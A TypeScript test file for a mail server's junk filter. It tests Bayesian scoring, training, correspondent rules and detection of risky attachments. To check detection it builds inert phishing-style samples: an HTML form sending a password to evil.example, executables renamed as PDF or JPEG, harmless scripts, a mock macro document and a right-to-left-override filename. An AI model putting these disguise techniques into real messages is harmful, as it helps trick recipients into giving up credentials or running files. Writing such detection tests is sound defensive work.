// The junk filter's parts on a real store: features, the chi-square combination, training and
// untraining (exact), correspondents, each risky-attachment rule with a real file (a real program,
// real zip archives made by zip(1) and Python's zipfile, an Office file with macros, an HTML page),
// and bad input (50 MB, no text, malformed MIME) classified without error.
import t from 'tap';
import { execFileSync } from 'node:child_process';
import { readFileSync, writeFileSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Store } from '../appliance/store/index.js';
import { JunkFilter } from '../appliance/junk/filter.js';
import { chi2Q, lnChi2Q, bayesScore } from '../appliance/junk/bayes.js';
import { extractFeatures } from '../appliance/junk/features.js';
import { riskyAttachments, riskyName } from '../appliance/junk/attachments.js';
import { zipEntryNames } from '../appliance/junk/zip.js';
import { sniff } from '../appliance/junk/magic.js';
import { parseMime } from '../appliance/mail/mime.js';

const dir = mkdtempSync(join(tmpdir(), 'postern-junk-'));
t.teardown(() => rmSync(dir, { recursive: true, force: true }));

function msg(from: string, subject: string, body: string, extra = ''): Buffer {
  return Buffer.from(`From: ${from}\r\nTo: alice@example.test\r\nSubject: ${subject}\r\nMessage-ID: <${Math.random().toString(36).slice(2)}@x.example>\r\n${extra}\r\n${body}\r\n`);
}

function withAttachment(name: string, type: string, content: Buffer, from = 'stranger@far.example'): Buffer {
  const b64 = content.toString('base64').replace(/.{76}/g, '$&\r\n');
  return Buffer.from(`From: ${from}\r\nTo: alice@example.test\r\nSubject: your documents\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="b1"\r\n\r\n--b1\r\nContent-Type: text/plain\r\n\r\nPlease see the attached file.\r\n--b1\r\nContent-Type: ${type}; name="${name}"\r\nContent-Disposition: attachment; filename="${name}"\r\nContent-Transfer-Encoding: base64\r\n\r\n${b64}\r\n--b1--\r\n`);
}

const spamWords = ['viagra cheap pills online pharmacy', 'win money now lottery winner claim prize', 'limited offer act now free credit', 'enlarge results guaranteed discreet shipping'];
const hamWords = ['meeting notes from tuesday about the garden', 'can you pick up the kids after school', 'the invoice for the plumber is attached to the email', 'dinner at grandma sunday bring the salad'];

t.test('chi-square tail and combination', async (t) => {
  t.ok(Math.abs(chi2Q(2, 2) - Math.exp(-1)) < 1e-12, 'chi2Q(2, 2) = e^-1');
  t.ok(Math.abs(Math.exp(lnChi2Q(10, 6)) - chi2Q(10, 6)) < 1e-12, 'the log form agrees');
  t.ok(lnChi2Q(5000, 300) < -1000, 'far tails do not underflow to -Infinity');
  t.ok(Number.isFinite(lnChi2Q(5000, 300)));
  t.equal(bayesScore([], 10, 10).score, 0.5, 'no evidence: 0.5');
  t.ok(bayesScore([{ spam: 30, ham: 0 }, { spam: 20, ham: 1 }], 50, 50).score > 0.99, 'spammy features');
  t.ok(bayesScore([{ spam: 0, ham: 30 }, { spam: 1, ham: 20 }], 50, 50).score < 0.01, 'hammy features');
});

t.test('features: words, pairs, headers, own Authentication-Results only', async (t) => {
  const raw = msg('"Shop" <deals@promo.example.com>', 'Cheap pills', 'Visit http://pills.example.net/x now',
    'Authentication-Results: mail.example.test; spf=fail smtp.mailfrom=promo.example.com; dkim=none; dmarc=fail\r\nAuthentication-Results: forged.example; dmarc=pass\r\n');
  const f = extractFeatures(raw, parseMime(raw), { hostname: 'mail.example.test', firstTimeSender: true });
  t.same(f.context, ['auth:spf=fail', 'auth:dkim=none', 'auth:dmarc=fail', 'sender:first-time']);
  t.equal(f.from, 'deals@promo.example.com');
  const again = extractFeatures(raw, parseMime(raw), {});
  t.same(again.message, f.message, 'message features do not depend on the context (exact untraining)');
  t.ok(f.message.length > 10);
});

t.test('training, untraining, verdicts and correspondents on a real store', async (t) => {
  const store = Store.open(join(dir, 'train'));
  t.teardown(() => store.close());
  store.domains.ensure('example.test');
  const acc = await store.accounts.create('alice@example.test', 'correct horse');
  const filter = new JunkFilter(store, 'mail.example.test');
  store.junk.setSettings(acc.id, { minTrained: 5 });
  for (let i = 0; i < 12; i++) {
    const s = msg(`seller${i}@spam${i}.example`, `Offer ${i}: ${spamWords[i % 4]}`, `${spamWords[i % 4]} ${spamWords[(i + 1) % 4]} click here`);
    const h = msg(`friend${i}@family.example`, `Re: ${hamWords[i % 4]}`, `${hamWords[i % 4]}. ${hamWords[(i + 2) % 4]}`);
    t.ok(filter.setLabel(acc.id, s, `s${i}`, 'spam'));
    t.ok(filter.setLabel(acc.id, h, `h${i}`, 'ham'));
  }
  t.notOk(filter.setLabel(acc.id, msg('x@y.example', 'a', 'b'), 's0', 'spam'), 'the same label again: no change');
  const st = store.junk.state(acc.id);
  t.equal(st.spamTrained, 12);
  t.equal(st.hamTrained, 12);
  const spam = msg('new@spammer.example', 'Cheap pills offer', `${spamWords[0]} ${spamWords[1]} click here`);
  const v = filter.classify(acc.id, spam);
  t.ok(v.junk, `a new spam is junk (score ${v.score})`);
  t.equal(v.reason, 'content');
  t.same(v.flags, ['$Junk']);
  t.match(v.headers, /^X-Spam-Status: Yes, score=[01]\.\d{3} required=0\.95 reason=content\r\nX-Spam-Score: /);
  const ham = msg('friend99@family.example', 'Re: dinner', `${hamWords[3]} ${hamWords[1]}`);
  t.notOk(filter.classify(acc.id, ham).junk, 'a new ham is not');

  // a correspondent (written to) is never junked, even with spam words
  const sent = msg('alice@example.test', 'hello', 'hi', '').toString().replace('To: alice@example.test', 'To: Dave <dave@friends.example>, eve@friends.example');
  filter.noteWrote(acc.id, Buffer.from(sent));
  const fromDave = msg('Dave <dave@friends.example>', 'Cheap pills offer', `${spamWords[0]} ${spamWords[1]} click here`);
  const dv = filter.classify(acc.id, fromDave);
  t.notOk(dv.junk, 'a correspondent is never junked');
  t.equal(dv.reason, 'correspondent');
  t.ok(dv.score >= 0.95, 'even though the content scores as spam');
  // ... unless the message failed DMARC (a forgery of the correspondent's address)
  const forged = msg('Dave <dave@friends.example>', 'Cheap pills offer', `${spamWords[0]} ${spamWords[1]} click here`, 'Authentication-Results: mail.example.test; spf=fail; dkim=none; dmarc=fail\r\n');
  t.ok(filter.classify(acc.id, forged).junk, 'a forged correspondent (dmarc=fail) is not trusted');

  // untraining restores the counts exactly
  const before = new Map([...store.junk.features(acc.id)].map((r) => [r.feature, `${r.spam}/${r.ham}`]));
  const extra = msg('odd@one.example', 'Unique zebra subject', 'zebra quagga okapi unique words');
  filter.setLabel(acc.id, extra, 'extra', 'spam');
  t.equal(store.junk.state(acc.id).spamTrained, 13);
  t.ok(filter.setLabel(acc.id, extra, 'extra', 'ham'), 'relabel spam -> ham');
  t.equal(store.junk.state(acc.id).spamTrained, 12);
  t.equal(store.junk.state(acc.id).hamTrained, 13);
  t.ok(store.junk.sender(acc.id, 'odd@one.example')!.kept > 0, 'ham from an address: kept mail from it');
  filter.setLabel(acc.id, extra, 'extra', undefined);
  const after = new Map([...store.junk.features(acc.id)].map((r) => [r.feature, `${r.spam}/${r.ham}`]));
  t.same(after, before, 'feature counts are back where they were');
  t.equal(store.junk.sender(acc.id, 'odd@one.example')!.kept, 0);
  filter.flush();
  t.ok(store.junk.state(acc.id).delivered >= 4, 'deliveries counted');
  t.ok(store.junk.state(acc.id).caught >= 2, 'caught counted');

  // the model survives a reopen (it lives in the store)
  store.close();
  const again = Store.open(join(dir, 'train'));
  t.teardown(() => again.close());
  const f2 = new JunkFilter(again, 'mail.example.test');
  t.teardown(() => f2.flush());
  t.ok(f2.classify(acc.id, spam).junk, 'the model after a restart still catches the spam');
  t.ok(again.junk.modelBytes(acc.id) > 0);
});

t.test('risky attachments: one real file per rule', async (t) => {
  const program = readFileSync('/usr/bin/true');
  t.equal(sniff(program).kind, 'executable', 'a real ELF program');
  const html = Buffer.from('<!doctype html><html><body><form action="https://evil.example/login"><input name="password" type="password"></form></body></html>');
  const files = join(dir, 'files');
  execFileSync('mkdir', ['-p', files]);
  writeFileSync(join(files, 'setup.exe'), program);
  writeFileSync(join(files, 'notes.txt'), 'just notes\n');
  execFileSync('zip', ['-q', '-j', join(files, 'bad.zip'), join(files, 'setup.exe'), join(files, 'notes.txt')]);
  execFileSync('zip', ['-q', '-j', join(files, 'good.zip'), join(files, 'notes.txt')]);
  execFileSync('python3', ['-c', `import zipfile
z = zipfile.ZipFile('${join(files, 'report.docm')}', 'w')
z.writestr('[Content_Types].xml', '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')
z.writestr('word/vbaProject.bin', b'\\xd0\\xcf\\x11\\xe0\\xa1\\xb1\\x1a\\xe1' + b'Attribute VB_Name = "ThisDocument"' * 10)
z.close()
z = zipfile.ZipFile('${join(files, 'nested.zip')}', 'w')
z.writestr('docs/invoice.pdf.js', 'WScript.Echo(1)')
z.close()`]);
  t.same(zipEntryNames(readFileSync(join(files, 'bad.zip'))).sort(), ['notes.txt', 'setup.exe'], 'zip central directory read');

  const cases: Array<[string, Buffer, string, RegExp, boolean]> = [
    ['executable', withAttachment('setup.exe', 'application/octet-stream', program), '$AttachmentRisk', /executable or script \(\.exe\)/, false],
    ['script', withAttachment('run.vbs', 'text/plain', Buffer.from('MsgBox "hi"')), '$AttachmentRisk', /executable or script \(\.vbs\)/, false],
    ['executable inside a zip', withAttachment('photos.zip', 'application/zip', readFileSync(join(files, 'bad.zip'))), '$AttachmentRisk', /inside the zip archive: executable or script \(\.exe\)/, false],
    ['disguised script inside a zip', withAttachment('scan.zip', 'application/zip', readFileSync(join(files, 'nested.zip'))), '$Phishing', /inside the zip archive: double extension/, true],
    ['macro-enabled Office', withAttachment('report.docm', 'application/vnd.ms-word.document.macroEnabled.12', readFileSync(join(files, 'report.docm'))), '$AttachmentRisk', /macro-enabled Office document \(\.docm\)/, false],
    ['HTML attachment', withAttachment('secure-message.html', 'text/html', html), '$AttachmentRisk', /HTML attachment/, false],
    ['double extension', withAttachment('invoice.pdf.exe', 'application/pdf', program), '$Phishing', /double extension: an executable \(\.exe\) named as \.pdf/, true],
    ['magic bytes against the name', withAttachment('holiday.jpg', 'image/jpeg', program), '$Phishing', /the content is a program \(a Linux program \(ELF\)\)/, true],
    ['magic bytes against the declared type', withAttachment('statement', 'application/pdf', readFileSync(join(files, 'good.zip'))), '$Phishing', /declared application\/pdf but the content is a zip archive/, true],
    ['rar archive', withAttachment('files.rar', 'application/x-rar', Buffer.concat([Buffer.from('Rar!\x1a\x07\x01\x00', 'latin1'), Buffer.alloc(64)])), '$AttachmentRisk', /RAR archive \(\.rar\) whose contents could not be listed: malformed/, false],
    ['disk image', withAttachment('update.iso', 'application/octet-stream', Buffer.alloc(4096)), '$AttachmentRisk', /\(\.iso\)/, false],
  ];
  const store = Store.open(join(dir, 'risky'));
  t.teardown(() => store.close());
  store.domains.ensure('example.test');
  const acc = await store.accounts.create('alice@example.test', 'correct horse');
  const filter = new JunkFilter(store, 'mail.example.test');
  t.teardown(() => filter.flush());
  for (const [rule, raw, keyword, reason, disguised] of cases) {
    const risks = riskyAttachments(raw, parseMime(raw));
    t.equal(risks.length, 1, `${rule}: one risk`);
    t.match(risks[0]?.reason ?? '', reason, `${rule}: ${risks[0]?.reason}`);
    t.equal(risks[0]?.part, '2', `${rule}: the second part`);
    t.equal(risks[0]?.disguised, disguised);
    const v = filter.classify(acc.id, raw);
    t.ok(v.flags.includes(keyword), `${rule}: keyword ${keyword}`);
    t.match(v.headers, /X-Attachment-Risk: part 2; "[^"]+"; /, `${rule}: header names the part`);
    t.ok(v.junk && v.reason === 'risky', `${rule}: from an unknown sender: Junk`);
  }
  for (const [name, raw] of [
    ['a plain zip', withAttachment('notes.zip', 'application/zip', readFileSync(join(files, 'good.zip')))],
    ['a real PDF', withAttachment('doc.pdf', 'application/pdf', Buffer.from('%PDF-1.4\n%...\n'))],
  ] as const) t.same(riskyAttachments(raw, parseMime(raw)), [], `${name} is not risky`);
  t.equal(riskyName('photo\u202egpj.exe')?.disguised, true, 'right-to-left override');

  // a known correspondent's risky attachment is marked but stays in the INBOX; the setting too
  filter.noteWrote(acc.id, Buffer.from('To: friend@known.example\r\n\r\n'));
  const known = filter.classify(acc.id, withAttachment('setup.exe', 'application/octet-stream', program, 'friend@known.example'));
  t.notOk(known.junk, 'from a correspondent: not junk');
  t.ok(known.flags.includes('$AttachmentRisk'), 'but marked');
  store.junk.setSettings(acc.id, { riskyToJunk: false });
  t.notOk(filter.classify(acc.id, cases[0]![1]).junk, 'per-account setting: risky attachments stay in the INBOX');
});

t.test('bad input: 50 MB, no text, malformed MIME', async (t) => {
  const store = Store.open(join(dir, 'bad'));
  t.teardown(() => store.close());
  store.domains.ensure('example.test');
  const acc = await store.accounts.create('alice@example.test', 'correct horse');
  const filter = new JunkFilter(store, 'mail.example.test');
  const big = Buffer.concat([Buffer.from('From: big@x.example\r\nSubject: big\r\nContent-Type: text/plain\r\n\r\n'), Buffer.alloc(50 * 1024 * 1024, 'lorem ipsum dolor sit amet\r\n')]);
  const bigB64 = withAttachment('big.bin', 'application/octet-stream', Buffer.alloc(38 * 1024 * 1024, 7));
  const cases: Array<[string, Buffer]> = [
    ['50 MB of text', big],
    ['50 MB base64 attachment', bigB64],
    ['no text at all', Buffer.from('From: a@b.example\r\nSubject:\r\n\r\n')],
    ['no header, no body', Buffer.alloc(0)],
    ['binary garbage', Buffer.from(Array.from({ length: 5000 }, (_, i) => (i * 7919) % 256))],
    ['multipart without its boundary', Buffer.from('Content-Type: multipart/mixed; boundary="zz"\r\n\r\n--zz\r\nContent-Type: text/html\r\n\r\n<b>unclosed')],
    ['truncated base64 and bad charset', Buffer.from('Content-Type: text/plain; charset=x-nonsense\r\nContent-Transfer-Encoding: base64\r\n\r\nSGVsbG8gd29y===!!')],
    ['zip with a broken directory', withAttachment('x.zip', 'application/zip', Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(30), Buffer.from('PK\x05\x06'), Buffer.from([0, 0, 0, 0, 255, 255, 255, 255, 255, 255, 255, 255, 255, 255, 0, 0, 0, 0])]))],
    ['deep nesting', Buffer.from('Content-Type: multipart/mixed; boundary=a\r\n\r\n' + Array.from({ length: 200 }, (_, i) => `--a\r\nContent-Type: multipart/mixed; boundary=a${i}\r\n\r\n`).join(''))],
  ];
  t.teardown(() => filter.flush());
  for (const [name, raw] of cases) {
    let v;
    try { v = filter.classify(acc.id, raw); } catch (e) { t.fail(`${name}: ${(e as Error).message}`); continue; }
    t.ok(v.score >= 0 && v.score <= 1, `${name}: classified (score ${v.score})`);
    t.ok(filter.setLabel(acc.id, raw, `bad-${name}`, 'spam'), `${name}: trained`);
  }
});
